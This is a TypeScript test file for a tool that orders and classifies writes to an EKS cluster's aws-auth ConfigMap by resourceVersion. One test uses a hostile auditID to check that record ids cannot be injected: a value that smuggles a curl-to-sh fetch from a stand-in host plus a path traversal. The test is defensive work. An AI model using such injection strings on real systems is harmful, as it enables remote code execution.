/**
 * The history of one cluster's aws-auth: ordered by resourceVersion, never by arrival; duplicates
 * skipped; the predecessor, comparison base and last good version of each write.
 */
import { describe, expect, it } from "vitest";
import { makePolicy } from "../../lambda/core/policy.js";
import type { VersionRecord } from "../../lambda/core/records.js";
import { versionId } from "../../lambda/core/records.js";
import { historyBefore, placeRecord, recordKindOf, Timeline } from "../../lambda/core/timeline.js";
import {
  ARN,
  asConfigMapObject,
  CLUSTER_ACCOUNT,
  configMapWith,
  createEvent,
  deleteEvent,
  derivedAuditID,
  dryRun,
  goodData,
  IDENTITY,
  jsonPatchEvent,
  LAB_FILES,
  labEvent,
  refused,
  roleEntry,
  updateEvent,
  withRoles,
  writeOf,
} from "../support/events.js";

const POLICY = makePolicy({ clusterAccount: CLUSTER_ACCOUNT });
const developer = roleEntry(ARN.developer, "developer:{{SessionName}}", ["view-only"]);

function baseline(timeline: Timeline, rv = "204"): VersionRecord {
  return timeline.capture(
    asConfigMapObject(configMapWith(goodData(), rv)),
    "baseline",
    "2026-11-22T13:59:00Z",
  ).record;
}

function record(
  kind: VersionRecord["kind"],
  rv: string,
  ref: string,
  cls: VersionRecord["class"],
  withContent = kind === "version",
): VersionRecord {
  return {
    kind,
    id: versionId(kind, rv, ref),
    cluster: "c",
    resourceVersion: rv,
    time: "",
    ...(withContent ? { configMap: asConfigMapObject(configMapWith(goodData(), rv)) } : {}),
    class: cls,
    findings: [],
  };
}

describe("record ids", () => {
  it("sort by resourceVersion; a tombstone or unverified record sorts after the version it follows", () => {
    const ids = [
      versionId("version", "1000", "a"),
      versionId("tombstone", "208", "z"),
      versionId("version", "208", "z"),
      versionId("unverified", "99", "b"),
      versionId("version", "99", "b"),
    ].sort();
    expect(ids).toEqual([
      "00000000000000000099-b",
      "00000000000000000099~unverified-b",
      "00000000000000000208-z",
      "00000000000000000208~deleted-z",
      "00000000000000001000-a",
    ]);
  });

  it("placeRecord files a version under its own resourceVersion, anything else under the latest known", () => {
    expect(placeRecord("version", "300", "205", "x")).toEqual({
      id: "00000000000000000205-x",
      resourceVersion: "205",
    });
    expect(placeRecord("tombstone", "300", undefined, "x")).toEqual({
      id: "00000000000000000300~deleted-x",
      resourceVersion: "300",
    });
    expect(placeRecord("unverified", undefined, undefined, "x")).toEqual({
      id: "00000000000000000000~unverified-x",
    });
  });

  it("recordKindOf: content → version, deletion → tombstone, no content → unverified", () => {
    expect(recordKindOf(writeOf(labEvent(LAB_FILES.nodeManagerUpdate, "update")))).toBe("version");
    expect(recordKindOf(writeOf(labEvent(LAB_FILES.delete, "delete")))).toBe("tombstone");
    expect(recordKindOf(writeOf(labEvent(LAB_FILES.create, "create")))).toBe("unverified");
  });
});

describe("a baseline read from a file (analyze --baseline)", () => {
  it("is filed as read from a file, with a complete id even without a time, and described as such", () => {
    // Prepare: kubectl's output without creationTimestamp gives no time at all.
    const timeline = new Timeline("prod", POLICY);

    // Act
    const { record: fromFile } = timeline.capture(
      asConfigMapObject(configMapWith(goodData(), "201")),
      "baseline given with --baseline",
      "",
      "file",
    );
    const next = timeline.process(
      writeOf(
        updateEvent({
          auditID: derivedAuditID(901),
          resourceVersion: "202",
          data: withRoles(goodData(), developer),
        }),
      ),
    );

    // Assess
    expect(fromFile.id).toBe("00000000000000000201-file");
    expect(fromFile.capture).toEqual({ reason: "baseline given with --baseline", at: "", from: "file" });
    expect(next.history.base?.id).toBe(fromFile.id);
    const cluster = new Timeline("prod", POLICY).capture(
      asConfigMapObject(configMapWith(goodData(), "201")),
      "capture",
      "",
    );
    expect(cluster.record.id).toBe("00000000000000000201-capture");
    expect(cluster.record.capture?.from).toBeUndefined();
  });
});

describe("historyBefore", () => {
  const records = [
    record("version", "201", "a", "routine"),
    record("version", "202", "b", "dangerous"),
    record("tombstone", "202", "c", "dangerous"),
    record("unverified", "202", "d", "unverified"),
  ];

  it("previous: the record right before; base: the newest with content; lastGood: the newest not dangerous", () => {
    const next = versionId("version", "300", "e");
    const h = historyBefore(records, next);
    expect(h.previous?.id).toBe(records[3]?.id);
    expect(h.base?.id).toBe(records[1]?.id);
    expect(h.lastGood?.id).toBe(records[0]?.id);
  });

  it("looks only at records before the id, whatever else is filed", () => {
    const h = historyBefore(records, versionId("version", "202", "b"));
    expect(h.previous?.id).toBe(records[0]?.id);
    expect(historyBefore(records, versionId("version", "100", "x"))).toEqual({});
  });
});

describe("Timeline", () => {
  it("an identical PUT is an attempt judged against the version holding its content: no second version", () => {
    for (const n of [1, 2, 3, 4]) {
      const timeline = new Timeline("prod-eu", POLICY);
      const base = baseline(timeline, "204");
      const noOp = updateEvent({
        auditID: derivedAuditID(510 + n),
        identity: IDENTITY.terraform(),
        data: goodData(),
        resourceVersion: "204",
        basedOn: "204",
      });
      const processed = timeline.process(writeOf(noOp));
      expect(processed.record).toBeUndefined();
      expect(processed.history.base?.id).toBe(base.id);
      expect(processed.classification.class).toBe("cosmetic");
      expect(processed.classification.recordKind).toBe("none");
      expect(timeline.all()).toHaveLength(1);
    }
  });

  it("files records by resourceVersion whatever the arrival order", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    baseline(timeline, "204");
    const d1 = withRoles(goodData(), developer);
    const later = updateEvent({
      auditID: derivedAuditID(501),
      identity: IDENTITY.ssoAdmin(),
      data: d1,
      resourceVersion: "207",
    });
    const earlier = jsonPatchEvent({
      auditID: derivedAuditID(502),
      data: d1,
      before: goodData(),
      resourceVersion: "205",
    });
    timeline.process(writeOf(later));
    timeline.process(writeOf(earlier));
    expect(timeline.all().map((r) => r.resourceVersion)).toEqual(["204", "205", "207"]);
  });

  it("out of order: node-manager's rewrite first, Terraform's earlier write second; the predecessor is by resourceVersion", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    const base = baseline(timeline, "204");
    const good = goodData();
    const terraformVersion = withRoles(good, developer);
    // eks:node-manager rewrites Terraform's version unquoted (rv 206), keeping every entry.
    const unquoted = { ...terraformVersion, mapRoles: (terraformVersion.mapRoles ?? "").replaceAll('"', "") };
    const nodeManager = updateEvent({
      auditID: derivedAuditID(503),
      identity: IDENTITY.nodeManager(),
      data: unquoted,
      resourceVersion: "206",
    });
    const terraform = jsonPatchEvent({
      auditID: derivedAuditID(504),
      at: "2026-11-22T14:00:00",
      data: terraformVersion,
      before: good,
      resourceVersion: "205",
    });
    const first = timeline.process(writeOf(nodeManager));
    const second = timeline.process(writeOf(terraform));
    // Terraform's write is compared with rv 204 (its real predecessor), not with rv 206 (which arrived first):
    // compared with 206 it would look cosmetic.
    expect(second.history.previous?.id).toBe(base.id);
    expect(second.history.base?.id).toBe(base.id);
    expect(second.record?.predecessorId).toBe(base.id);
    expect(second.classification.class).toBe("routine");
    expect(second.classification.diff?.roles.added.map((r) => r.rolearn)).toEqual([ARN.developer]);
    expect(first.record?.resourceVersion).toBe("206");
    expect(timeline.all().map((r) => r.id)).toEqual([base.id, second.record?.id, first.record?.id]);
  });

  it("skips the same event delivered again: nothing classified, nothing filed", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    baseline(timeline);
    const event = jsonPatchEvent({
      auditID: derivedAuditID(505),
      data: withRoles(goodData(), developer),
      before: goodData(),
      resourceVersion: "205",
    });
    expect(timeline.process(writeOf(event)).duplicate).toBe(false);
    const before = [...timeline.all()];
    const again = timeline.process(writeOf(structuredClone(event)));
    expect(again.duplicate).toBe(true);
    expect(again.record).toBeUndefined();
    expect(timeline.all()).toEqual(before);
    // The auditID is the writer's choice, not the event's identity: another event carrying it is judged.
    const refusedAgain = refused(structuredClone(event), 409, "conflict");
    const judged = timeline.process(writeOf(refusedAgain));
    expect(judged.duplicate).toBe(false);
    expect(judged.classification.class).toBe("rejected");
  });

  it("ids and keys hold no part of the auditID: digits, hex and fixed tags only", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    baseline(timeline);
    const hostile = jsonPatchEvent({
      auditID: "x;curl https://evil.example/x|sh;#/../../etc",
      data: withRoles(goodData(), developer),
      before: goodData(),
      resourceVersion: "205",
    });
    const { record } = timeline.process(writeOf(hostile));
    expect(record?.id).toMatch(/^0{17}205-[0-9a-f]{24}$/);
    expect(record?.audit?.auditID).toBe(hostile.auditID);
  });

  it("files nothing for rejected writes and dry runs", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    baseline(timeline);
    timeline.process(writeOf(labEvent(LAB_FILES.forbiddenPatch, "patch")));
    timeline.process(
      writeOf(
        dryRun(
          jsonPatchEvent({
            auditID: derivedAuditID(506),
            data: {},
            before: goodData(),
            resourceVersion: "204",
          }),
        ),
      ),
    );
    expect(timeline.all()).toHaveLength(1);
  });

  it("lastGood is the newest version with content not classified dangerous", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    const base = baseline(timeline);
    timeline.process(writeOf(deleteEvent({ auditID: derivedAuditID(507), at: "2026-11-22T14:05:00" })));
    expect(timeline.lastGood()?.id).toBe(base.id);
    timeline.process(writeOf(createEvent({ auditID: derivedAuditID(508), at: "2026-11-22T14:10:00" })));
    expect(timeline.all().map((r) => r.kind)).toEqual(["version", "tombstone", "unverified"]);
    expect(timeline.lastGood()?.id).toBe(base.id);
  });

  it("a capture of a resourceVersion already filed returns that record and files nothing", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    const base = baseline(timeline);
    const again = timeline.capture(
      asConfigMapObject(configMapWith(goodData(), "204")),
      "verify",
      "2026-11-22T15:00:00Z",
    );
    expect(again.record).toBe(base);
    expect(again.classification.recordKind).toBe("none");
    expect(timeline.all()).toHaveLength(1);
  });

  it("keeps the ConfigMap as stored, without managedFields, with the write's summary", () => {
    const timeline = new Timeline("prod-eu", POLICY);
    baseline(timeline, "201");
    const { record: kept } = timeline.process(writeOf(labEvent(LAB_FILES.nodeManagerUpdate, "update")));
    expect(kept?.configMap?.metadata).toEqual({
      name: "aws-auth",
      namespace: "kube-system",
      uid: "fa8784fd-2f69-4405-bfa5-68eba918cf26",
      resourceVersion: "202",
      creationTimestamp: "2026-11-22T13:03:49Z",
      labels: {
        "app.kubernetes.io/managed-by": "Terraform",
        "terraform.io/module": "terraform-aws-modules.eks.aws",
      },
    });
    expect(kept?.audit).toMatchObject({
      auditID: "f280e579-b421-4ae0-ab83-7de6e8ae7866",
      verb: "update",
      code: 200,
    });
    expect(kept?.cluster).toBe("prod-eu");
  });
});
